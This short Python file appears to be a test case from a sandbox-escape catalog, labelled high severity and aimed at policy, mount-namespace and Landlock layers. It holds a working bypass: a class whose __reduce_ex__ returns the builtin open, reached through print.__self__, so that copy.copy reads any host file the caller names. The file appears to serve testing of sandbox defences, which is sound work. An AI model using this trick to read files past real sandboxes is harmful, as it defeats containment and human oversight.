# technique: copying an object calls what the object names
# family: A
# severity: H
# layers: policy, mount_namespace, landlock
import copy

class Deputy:
    def __init__(self, path):
        self.path = path

    def __reduce_ex__(self, protocol):
        return (print.__self__.open, (self.path,))

read_host(lambda: lambda path: copy.copy(Deputy(path)))
